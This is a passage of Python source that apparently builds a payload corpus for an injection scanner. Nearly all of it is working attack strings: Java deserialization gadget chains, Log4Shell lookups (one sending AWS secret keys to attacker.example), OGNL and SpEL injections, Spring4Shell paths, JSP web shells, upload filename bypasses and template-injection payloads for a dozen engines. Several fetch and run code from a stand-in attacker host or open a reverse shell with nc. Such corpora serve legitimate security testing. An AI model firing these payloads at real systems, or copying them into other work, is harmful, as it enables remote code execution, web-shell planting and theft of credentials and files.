    ("xml-doc", "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
                f"<default><size>2</size><comparator class=\"{CC4}comparators.TransformingComparator\"><decorated "
                f"class=\"{CC4}comparators.ComparableComparator\"/><transformer class=\"{CC4}functors."
                "InvokerTransformer\"><iMethodName>newTransformer</iMethodName><iParamTypes/><iArgs/></transformer>"
                f"</comparator></default><int>3</int>{TPL_XML}<int>1</int></java.util.PriorityQueue>"
                "</java.util.PriorityQueue>"),
    ("xml-doc", "<map><entry><org.apache.commons.collections.keyvalue.TiedMapEntry><map class=\"org.apache.commons"
                f".collections.map.LazyMap\"><factory class=\"{CC3}ChainedTransformer\"><iTransformers>"
                f"<{CC3}ConstantTransformer><iConstant class=\"java-class\">java.lang.Runtime</iConstant>"
                f"</{CC3}ConstantTransformer><{CC3}InvokerTransformer><iMethodName>getMethod</iMethodName>"
                "<iParamTypes><java-class>java.lang.String</java-class><java-class>[Ljava.lang.Class;</java-class>"
                "</iParamTypes><iArgs><string>getRuntime</string><java-class-array/></iArgs>"
                f"</{CC3}InvokerTransformer><{CC3}InvokerTransformer><iMethodName>invoke</iMethodName><iParamTypes>"
                "<java-class>java.lang.Object</java-class><java-class>[Ljava.lang.Object;</java-class></iParamTypes>"
                f"<iArgs><null/><object-array/></iArgs></{CC3}InvokerTransformer><{CC3}InvokerTransformer>"
                "<iMethodName>exec</iMethodName><iParamTypes><java-class>java.lang.String</java-class></iParamTypes>"
                f"<iArgs><string>id</string></iArgs></{CC3}InvokerTransformer></iTransformers></factory></map>"
                "<key class=\"string\">price</key></org.apache.commons.collections.keyvalue.TiedMapEntry>"
                "<string>1</string></entry></map>"),
    ("xml-doc", "<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>"
                "<org.codehaus.groovy.runtime.MethodClosure><delegate class=\"groovy.util.Expando\" reference="
                "\"../../../..\"/><owner class=\"java.lang.ProcessBuilder\"><command><string>id</string></command>"
                "<redirectErrorStream>false</redirectErrorStream></owner><resolveStrategy>0</resolveStrategy>"
                "<directive>0</directive><parameterTypes/><maximumNumberOfParameters>0</maximumNumberOfParameters>"
                "<method>start</method></org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties>"
                "</groovy.util.Expando><int>1</int></entry></map>"),
    ("xml-doc", f"<linked-hash-set>{TPL_XML}<dynamic-proxy><interface>javax.xml.transform.Templates</interface>"
                "<handler class=\"sun.reflect.annotation.AnnotationInvocationHandler\"><type>javax.xml.transform."
                f"Templates</type><memberValues><entry><string>f5a5a608</string><{TPL} reference=\"../../../../.."
                f"/{TPL}\"/></entry></memberValues></handler></dynamic-proxy></linked-hash-set>"),
    ("xml-doc", "<map><entry><com.sun.syndication.feed.impl.ObjectBean><__equalsBean><__beanClass>com.sun.rowset."
                "JdbcRowSetImpl</__beanClass><__obj class=\"com.sun.rowset.JdbcRowSetImpl\"><dataSource>" + LDAP
                + "rome</dataSource><autoCommit>true</autoCommit></__obj></__equalsBean>"
                "</com.sun.syndication.feed.impl.ObjectBean><string>date</string></entry></map>"),
    ("xml-doc", "<map><entry><org.hibernate.engine.spi.TypedValue><type class=\"org.hibernate.type.ComponentType\">"
                "<componentTuplizer class=\"org.hibernate.tuple.component.PojoComponentTuplizer\"><getters>"
                "<org.hibernate.property.BasicPropertyAccessor_-BasicGetter><clazz>com.sun.rowset.JdbcRowSetImpl"
                "</clazz><method><class>com.sun.rowset.JdbcRowSetImpl</class><name>getDatabaseMetaData</name>"
                "<parameter-types/></method><propertyName>databaseMetaData</propertyName>"
                "</org.hibernate.property.BasicPropertyAccessor_-BasicGetter></getters></componentTuplizer>"
                "<propertySpan>1</propertySpan></type><value class=\"com.sun.rowset.JdbcRowSetImpl\"><dataSource>"
                + LDAP + "hib</dataSource></value></org.hibernate.engine.spi.TypedValue><string>quantity</string>"
                "</entry></map>"),
]
# Log4j 2.0-2.14 logging a typed field (User-Agent, API version, e-mail, date, locale, host): the lookup
# nested, obfuscated with lower/upper/env/date/k8s defaults, the 2.15 localhost bypass, exfiltrating lookups,
# JSON unicode escapes, percent-encoded inside the field
LOG4SHELL: list[Entry] = [
    ("user-agent", "Mozilla/5.0 ${jndi:ldap://203.0.113.7:1389/ua}"),
    ("version", "${${lower:j}ndi:${lower:l}dap://attacker.example/v}"),
    ("email", "${jndi:ldap://attacker.example/a}@example.com"),
    ("date", "2024-05-01${jndi:dns://attacker.example/d}"),
    ("username", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example:1099/n}"),
    ("lang", "en-${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/l}"),
    ("hostname", "${jndi:ldap://127.0.0.1#attacker.example:1389/h}"),
    ("uuid", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/u}"),
    ("url", "https://example.com/${jndi:ldaps://attacker.example/r}"),
    ("phone", "+1555${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/p}"),
    ("currency", "${${upper:j}ndi:${upper:r}mi://attacker.example/c}"),
    ("postcode", "${j${k8s:k5:-ND}i:ldap://attacker.example/z}"),
    ("timezone", "${jndi:ldap://${sys:user.name}.${hostName}.attacker.example/t}"),
    ("filename", "${jndi:iiop://attacker.example/f}.pdf"),
    ("sort", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/s}"),
    ("json-doc", '{"email":"\\u0024\\u007bjndi:ldap://attacker.example/j\\u007d","name":"Ann"}'),
    ("id", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fi%7D"),
    ("token", "${jndi:ldap://attacker.example/${java:version}}"),
]
OGNL_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
            "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
            "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
            "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
            "(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))"
            ".(#p.redirectErrorStream(true)).(#process=#p.start())}")
# expression languages evaluating a typed field: SpEL (Spring Data sort, @Value-style templates), OGNL (Struts,
# Confluence path), JSP / JSF EL, MVEL, JEXL
EXPRESSION_LANGUAGE: list[Entry] = [
    ("sort", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("email", "\"#{T(java.lang.Runtime).getRuntime().exec('id')}\"@example.com"),
    ("username", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("id", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\")"
           ".getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse()"
           ".setHeader(\"X-Cmd-Response\",#a))}"),
    ("mime", OGNL_045),
    ("price", "${9.99+''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("quantity", "1${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("currency", "EUR'+@{java.lang.Runtime.getRuntime().exec('id')}+'"),
    ("filter", "Runtime.getRuntime().exec('id');"),
    ("date", "'2024-05-01'.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("colour", "#{facesContext.externalContext.sessionMap}"),
    ("version", "${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime()"
                ".exec('id').getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}"),
    ("page", "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}"),
    ("timezone", "UTC%{@java.lang.System@getenv()}"),
    ("hostname", "${#context['xwork.MethodAccessor.denyMethodExecution']=false,"
                 "#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("postcode", "10115${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance()"
                 ".getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime().exec('id')\")}"),
    ("uuid", "00000000-0000-4000-8000-000000000000';new('java.lang.ProcessBuilder','id').start();'"),
    ("lang", "en#{T(java.lang.System).getenv()}"),
]
# whole documents bound polymorphically: XStream (Struts REST, a typed <price> or <date>), XMLDecoder
# (WebLogic WorkContext), fastjson @type and Jackson default typing in a typed JSON property
JAVA_POLYMORPHIC: list[Entry] = [
    ("xml-doc", "<tree-map><entry><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="
                "\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string>"
                "</command></target><action>start</action></handler></dynamic-proxy><string>price</string></entry>"
                "</tree-map>"),
    ("xml-doc", "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml."
                "internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml."
                "internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\">"
                "<cipher class=\"javax.crypto.NullCipher\"><initialized>false</initialized><opmode>0</opmode>"
                "<serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi."
                "FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang."
                "ProcessBuilder\"><command><string>touch</string><string>/tmp/xs138</string></command>"
                "<redirectErrorStream>false</redirectErrorStream></next></iter><filter class=\"javax.imageio.ImageIO"
                "$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name>"
                "<parameter-types/></method><name>foo</name></filter><next class=\"string\">foo</next>"
                "</serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/>"
                "<ibuffer/><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is>"
                "<consumed>false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen>"
                "</value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString "
                "reference=\"../jdk.nashorn.internal.objects.NativeString\"/></entry></map>"),
    ("xml-doc", "<date class=\"tree-map\"><entry><dynamic-proxy><interface>java.lang.Comparable</interface>"
                "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
                "<string>bash</string><string>-c</string><string>curl http://attacker.example/x|sh</string>"
                "</command></target><action>start</action></handler></dynamic-proxy><string>1</string></entry>"
                "</date>"),
    ("xml-doc", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
                "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.8\" "
                "class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang."
                "String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>"
                "-c</string></void><void index=\"2\"><string>id</string></void></array><void method=\"start\"/>"
                "</void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>"),
    ("xml-doc", "<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>"
                "touch /tmp/xd138</string></void></object></java>"),
    ("xml-doc", "<?xml version=\"1.0\"?><java version=\"1.7\" class=\"java.beans.XMLDecoder\"><object class="
                "\"java.io.PrintWriter\"><string>servers/AdminServer/tmp/_WL_internal/bea_wls_internal/9j4dqk/war/"
                "x.jsp</string><void method=\"println\"><string><![CDATA[<% Runtime.getRuntime().exec(request"
                ".getParameter(\"c\")); %>]]></string></void><void method=\"close\"/></object></java>"),
    ("xml-doc", "<java><object class=\"javax.naming.InitialContext\"><void method=\"lookup\"><string>" + LDAP
                + "xd</string></void></object></java>"),
    ("json-doc", '{"email":"ann@example.com","avatar":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"'
                 + LDAP + 'fj","autoCommit":true}}'),
    ("json-doc", '{"price":{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
                 '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example:1099/fj",'
                 '"autoCommit":true}}}'),
    ("json-doc", '{"currency":{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"' + LDAP + 'fj2",'
                 '"autoCommit":true}}'),
    ("json-doc", '{"quantity":{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":'
                 '{"data_source":"' + LDAP + 'mb"}}}'),
    ("json-doc", '{"date":{"@type":"' + TPL + '","_bytecodes":["' + _b64(TRANSLET_CLASS) + '"],"_name":"a",'
                 '"_tfactory":{},"_outputProperties":{}}}'),
    ("json-doc", '{"filename":{"@type":"java.lang.AutoCloseable","@type":"java.io.FileOutputStream",'
                 '"file":"/tmp/fj138.jsp","append":false}}'),
    ("json-doc", '{"avatar_url":["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"' + LDAP + 'jk"}]}'),
    ("json-doc", '{"template":["org.springframework.context.support.ClassPathXmlApplicationContext",'
                 '"http://attacker.example/spel.xml"]}'),
    ("json-doc", '{"settings":["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"' + LDAP + 'hk"}]}'),
    ("json-doc", '{"sort":{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"' + LDAP + 'jk2",'
                 '"autoCommit":true}}'),
    ("json-doc", '{"price":["net.sf.ehcache.transaction.manager.DefaultTransactionManagerLookup",{"properties":'
                 '{"jndiName":"' + LDAP + 'eh"}}]}'),
]
S4S = "class.module.classLoader.resources.context.parent.pipeline.first."
CLASS_B64 = _b64(EXPLOIT_CLASS)
# class loading from a typed field or a bound parameter name: Spring4Shell and CVE-2010-1622 property paths,
# Struts class.classLoader, defineClass of a Base64 class file, URLClassLoader, MLet, RMIClassLoader, Groovy Grape
CLASS_LOADING: list[Entry] = [
    ("json-key", S4S + "pattern=%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = "
                 "%{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); } %{suffix}i"),
    ("json-key", S4S + "suffix=.jsp"),
    ("json-key", S4S + "directory=webapps/ROOT"),
    ("json-key", "class.classLoader.URLs[0]=jar:http://attacker.example/spring-exploit.jar!/"),
    ("json-key", "class.classLoader.resources.dirContext.docBase=/"),
    ("json-key", "class.classLoader.resources.context.parent.pipeline.first.fileDateFormat=_"),
    ("sort", "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(org.springframework.util."
             "Base64Utils).decodeFromString('" + CLASS_B64 + "'),T(java.lang.Thread).currentThread()"
             ".getContextClassLoader()).newInstance()"),
    ("price", "9.99+new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://attacker.example/x.jar')})"
              ".loadClass('Exploit').newInstance()"),
    ("token", CLASS_B64),
    ("quantity", "1;java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode('"
                 + CLASS_B64 + "'))"),
    ("username", "${''.getClass().forName('java.lang.ClassLoader').getDeclaredMethod('defineClass',"
                 "''.getBytes().getClass(),''.length().TYPE,''.length().TYPE)}"),
    ("page", "1;this.class.classLoader.addURL(new URL('http://attacker.example/g.jar'));"
             "Class.forName('Exploit').newInstance()"),
    ("config", "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://attacker.example/repo/')\n"
               "@Grab(group='x', module='exploit', version='1')\nimport Exploit;"),
    ("currency", "EUR';sun.misc.Unsafe.getUnsafe().defineAnonymousClass(java.lang.Object.class,"
                 "java.util.Base64.getDecoder().decode(c),null);'"),
    ("lang", "en';Thread.currentThread().getContextClassLoader().loadClass('Exploit').getConstructor()"
             ".newInstance();'"),
    ("json-doc", '{"date":{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":'
                 '"java.net.URLClassLoader","urls":["http://attacker.example/drv.jar"]},"driverClassName":"Exploit"}}'),
    ("version", "1.0';new javax.management.loading.MLet().getMBeansFromURL('http://attacker.example/mlet');'"),
    ("id", "42;java.rmi.server.RMIClassLoader.loadClass('http://attacker.example/classes/','Exploit')"),
]
JSP_SHELL = ('<%@ page import="java.io.*" %><% String c = request.getParameter("cmd"); if (c != null) { '
             'InputStream in = Runtime.getRuntime().exec(c).getInputStream(); int b; while ((b = in.read()) != -1) '
             'out.write(b); } %>')
JSPX_SHELL = ('<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>Runtime.getRuntime()'
              '.exec(request.getParameter("cmd"));</jsp:scriptlet></jsp:root>')
# a file name field of an upload that lands under a servlet container's web root (Tomcat, Jetty, WebLogic,
# Resin): JSP / JSPX / JSPF / WAR names with the tricks that pass an extension check
JSP_UPLOAD: list[Entry] = [
    ("upload", "avatar.jsp"),
    ("upload", "avatar.png.jsp"),
    ("upload", "avatar.jsp;.png"),
    ("upload", "invoice-2024.jspx"),
    ("upload", "header.jspf"),
    ("upload", "report.JSP"),
    ("upload", "cv.jsp "),
    ("upload", "cv.jsp."),
    ("upload", "photo.jsp::$DATA"),
    ("upload", "../../webapps/ROOT/upload.jsp"),
    ("upload", "..\\..\\webapps\\ROOT\\upload.jsp"),
    ("upload", "scan.jsp%00.pdf"),
    ("upload", "export.war"),
    ("upload", "cmd.jsp/"),
    ("upload", "filename*=UTF-8''avatar.jsp"),
    ("upload", "avatar.jspx;.jpg"),
    ("upload", "logo.jsw"),
    ("upload", "banner.jsv"),
]
# --- ssti --------------------------------------------------------------------------------------------------------
# Each engine's list: a display name, an e-mail (the quoted local part takes any character), a currency or
# language code, a date, a colour, a sort key, a file name, a postcode or a time zone that the application
# pastes into a template source (a greeting, an invoice line, a formatted date, a notification subject).
# Jinja2 3.x (Flask)
JINJA2: list[Entry] = [
    ("email", "{{config.items()}}@example.com"),
    ("username", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("currency", "{{lipsum.__globals__.os.popen('cat /etc/passwd').read()}}"),
    ("date", "2024-05-01{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("colour", "#{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("lang", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
             "{{c()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}"),
    ("postcode", "{{get_flashed_messages.__globals__['current_app'].config['SECRET_KEY']}}"),
    ("sort", "{{url_for.__globals__.os.environ}}"),
    ("filename", "{{namespace.__init__.__globals__.os.popen('id').read()}}.pdf"),
    ("timezone", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem"
                 "\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport"
                 "\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"),
]
# Twig 1-3 (Symfony, Craft, Grav)
TWIG: list[Entry] = [
    ("email", "\"{{['id']|filter('system')}}\"@example.com"),
    ("username", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("currency", "{{['cat /etc/passwd']|map('passthru')|join}}"),
    ("date", "{{'now'|date('Y-m-d')}}{{['id',0]|sort('system')}}"),
    ("colour", "{{app.request.server.all|join(',')}}"),
    ("lang", "{{'/etc/passwd'|file_excerpt(1,30)}}"),
    ("postcode", "{{[0]|reduce('system','id')}}"),
    ("sort", "{{_self.env.setCache('ftp://attacker.example:2121')}}{{_self.env.loadTemplate('backdoor')}}"),
    ("filename", "{{app.request.query.filter(0,0,1024,{'options':'system'})}}"),
    ("timezone", "{{['id']|map('shell_exec')|join}}"),
]
FM_EXEC = "freemarker.template.utility.Execute"
# FreeMarker 2.3 (Spring, Liferay, Alfresco, Confluence-era plugins)
FREEMARKER: list[Entry] = [
    ("email", "\"<#assign ex='" + FM_EXEC + "'?new()>${ex('id')}\"@example.com"),
    ("currency", "${\"" + FM_EXEC + "\"?new()(\"id\")}"),
    ("username", "[#assign ex='" + FM_EXEC + "'?new()]${ex('cat /etc/passwd')}"),
    ("date", "2024-05-01<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
             "${ob(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("lang", "<#assign js=\"freemarker.template.utility.JythonRuntime\"?new()><@js>import os;os.system(\"id\")</@js>"),
    ("sort", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
             ".toURL().openStream().readAllBytes()?join(' ')}"),
    ("colour", "<#assign uri=object?api.class.getResource('/').toURI()><#assign in=uri?api.create('file:///etc/passwd')"
               ".toURL().openConnection()>${in?api.getInputStream()}"),
    ("filename", "${\"" + FM_EXEC + "\"?new()(\"curl -s http://attacker.example/f.sh -o /tmp/f.sh\")}.pdf"),
    ("postcode", "${7*7}#{7*7}"),
    ("timezone", "UTC<#assign value=\"" + FM_EXEC + "\"?new()>${value(\"uname -a\")}"),
]
# Apache Velocity 1.7 / 2.x (with and without VelocityTools)
VELOCITY: list[Entry] = [
    ("email", "\"#set($e=\"\")$e.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")\"@example.com"),
    ("username", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))"
                 "$ex.waitFor()"),
    ("currency", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")"),
    ("lang", "#set($s=\"\")$s.getClass().forName(\"java.lang.System\").getProperty(\"user.home\")"),
    ("date", "2024-05-01#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
             ".invoke(null,null).exec(\"id\")"),
    ("sort", "#parse(\"../../../../etc/passwd\")"),
    ("filename", "#include(\"/etc/passwd\")"),
    ("colour", "#{set}($c=\"\".class.forName(\"java.lang.Runtime\"))${c.getRuntime().exec(\"touch /tmp/v138\")}"),
    ("postcode", "#evaluate('#set($s=\"\")$s.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")')"),
    ("timezone", "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang."
                 "Character\").type)#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))"
                 "$ex.waitFor()#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])"
                 "$str.valueOf($chr.toChars($out.read()))#end"),
]
# Thymeleaf 3 (Spring MVC: a language, sort or page value concatenated into a view name or fragment)
THYMELEAF: list[Entry] = [
    ("lang", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("sort", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}"
             "__::main"),
    ("username", "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]"),
    ("email", "\"[(${T(java.lang.System).getenv()})]\"@example.com"),
    ("currency", "*{T(java.lang.Runtime).getRuntime().exec('touch /tmp/t138')}"),
    ("colour", "~{::__${T(java.lang.Runtime).getRuntime().exec('id')}__}"),
    ("date", "2024-05-01__${#rt=@java.lang.Runtime@getRuntime(),#rt.exec(\"id\")}__"),
    ("filename", "__${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id')"
                 ".getInputStream())}__::.x"),
    ("page", "1__${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}__::x"),
    ("timezone", "UTC__${(T(java.lang.Runtime)).getRuntime().exec('id')}__::.x"),
]
# ERB (Ruby 3, Rails 7 / erubi)
ERB: list[Entry] = [
    ("username", "<%= system('id') %>"),
    ("email", "\"<%= `id` %>\"@example.com"),
    ("currency", "<%= IO.popen('cat /etc/passwd').readlines() %>"),
    ("date", "2024-05-01<%= File.open('/etc/passwd').read %>"),
    ("colour", "<%= Dir.entries('/') %>"),
    ("lang", "<%= require 'open3'; Open3.capture2('id') %>"),
    ("sort", "<%= ENV.to_h %>"),
    ("filename", "<%= Kernel.exec('id') %>.pdf"),
    ("postcode", "<%- %x(uname -a) -%>"),
    ("timezone", "<%= Rails.application.secrets.secret_key_base %>"),
]
# Smarty 2-4 (PHP shops and CMSs)
SMARTY: list[Entry] = [
    ("username", "{system('id')}"),
    ("email", "\"{php}echo `id`;{/php}\"@example.com"),
    ("currency", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
                 "self::clearConfig())}"),
    ("colour", "{$smarty.version}"),
    ("date", "2024-05-01{if system('id')}{/if}"),
    ("lang", "{fetch file='file:///etc/passwd'}"),
    ("filename", "{include file='file:/etc/passwd'}"),
    ("sort", "{function name='x(){};system(\"id\");function '}{/function}"),
    ("postcode", "{passthru(\"cat /etc/passwd\")}"),
    ("timezone", "{$smarty.template_object->smarty->display('string:{shell_exec(\"id\")}')}"),
]


def _hb_chain(code: str) -> str:
    """The Handlebars (before 4.6) chain that builds a Function from String.prototype.sub's constructor."""
    return ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
            "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
            "{{this.pop}}{{this.push \"" + code + "\"}}{{this.pop}}{{#each conslist}}"
            "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")


# Handlebars (Node.js, Express views, before the prototype-access fixes)
HANDLEBARS: list[Entry] = [
    ("username", _hb_chain("return require('child_process').execSync('id');")),
    ("currency", _hb_chain("return process.mainModule.require('child_process').execSync('cat /etc/passwd');")),
    ("lang", _hb_chain("return process.mainModule.require('child_process').exec('nc 203.0.113.7 4444 -e /bin/sh');")),
    ("sort", _hb_chain("return JSON.stringify(process.env);")),
    ("filename", _hb_chain("return global.process.mainModule.constructor._load('child_process').execSync('id');")),
    ("email", "\"{{#with this as |o|}}{{o.constructor.constructor}}{{/with}}\"@example.com"),
    ("colour", "{{this.__proto__.constructor}}"),
    ("date", "2024-05-01{{#each this}}{{@key}}={{this}};{{/each}}"),
    ("postcode", "{{#with this as |obj|}}{{#with (obj.constructor.keys \"1\") as |arr|}}{{arr.pop}}"
                 "{{arr.push obj.constructor.name.constructor.bind}}{{arr.pop}}{{arr.push \"return process"
                 ".mainModule.require('child_process').execSync('id');\"}}{{arr.pop}}{{#blockHelperMissing "
                 "obj.constructor.name.constructor.bind}}{{#with (arr.constructor (obj.constructor.name.constructor"
                 ".bind.apply obj.constructor.name.constructor arr))}}{{#with (obj.constructor"
                 ".getOwnPropertyDescriptor this 0)}}{{#with (obj.constructor.defineProperty obj.constructor"
                 ".prototype \"toString\" this)}}{{#with (obj.constructor.constructor \"test\")}}{{/with}}{{/with}}"
                 "{{/with}}{{/with}}{{/blockHelperMissing}}{{/with}}{{/with}}"),
    ("timezone", "{{{lookup (lookup this 'constructor') 'constructor'}}}"),
]
# Pug 2-3 (Node.js)
PUG: list[Entry] = [
    ("username", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("currency", "!{global.process.mainModule.require('child_process').execSync('cat /etc/passwd')}"),
    ("lang", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
             ".exec('curl attacker.example/p.sh|sh')}()}"),
    ("date", "2024-05-01\n- var x = global.process.mainModule.require('child_process').execSync('id')\n= x"),
    ("colour", "#[span= global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')]"),
    ("filename", "include /etc/passwd"),
    ("sort", "- global.process.mainModule.require('child_process').exec('id')"),
    ("email", "\"#{process.mainModule.require('child_process').execSync('id')}\"@example.com"),
    ("postcode", "10115\n=global.process.mainModule.require('child_process').execSync('uname -a')"),
    ("timezone", "UTC #{new Function('return process')().mainModule.require('child_process').execSync('id')}"),
]
# Mako 1.x (Pylons, Pyramid)
MAKO: list[Entry] = [
    ("username", "${self.module.cache.util.os.system('id')}"),
    ("email", "\"${__import__('os').popen('id').read()}\"@example.com"),
    ("currency", "<% import os; x=os.popen('cat /etc/passwd').read() %>${x}"),
    ("lang", "<%! import os %>${os.system('id')}"),
    ("date", "2024-05-01${open('/etc/passwd').read()}"),
    ("colour", "${self.template.module.runtime.util.os.popen('id').read()}"),
    ("sort", "${self.attr._NSAttr__parent.module.cache.util.os.system('id')}"),
    ("filename", "<%include file=\"/etc/passwd\"/>"),
    ("postcode", "${__import__('subprocess').check_output(['id'])}"),
    ("timezone", "% for x in __import__('os').listdir('/'):\n${x}\n% endfor"),
]
# Tornado 6 templates
TORNADO: list[Entry] = [
    ("username", "{% import os %}{{os.popen('id').read()}}"),
    ("email", "\"{{__import__('os').system('id')}}\"@example.com"),
    ("currency", "{% raw __import__('os').popen('cat /etc/passwd').read() %}"),
    ("lang", "{{handler.settings}}"),
    ("date", "2024-05-01{{handler.application.settings['cookie_secret']}}"),
    ("colour", "{% apply __import__('os').system %}id{% end %}"),
    ("sort", "{% set x = __import__('subprocess').check_output(['id']) %}{{x}}"),
    ("filename", "{% include '../../../../etc/passwd' %}"),
    ("postcode", "{% extends '/etc/passwd' %}"),
    ("timezone", "{% autoescape None %}{{ __import__('os').environ }}"),
]
# Nunjucks 3 (Node.js)
NUNJUCKS: list[Entry] = [
    ("username", "{{range.constructor(\"return global.process.mainModule.require('child_process')"
                 ".execSync('id')\")()}}"),
    ("email", "\"{{cycler.constructor('return process.env')()}}\"@example.com"),
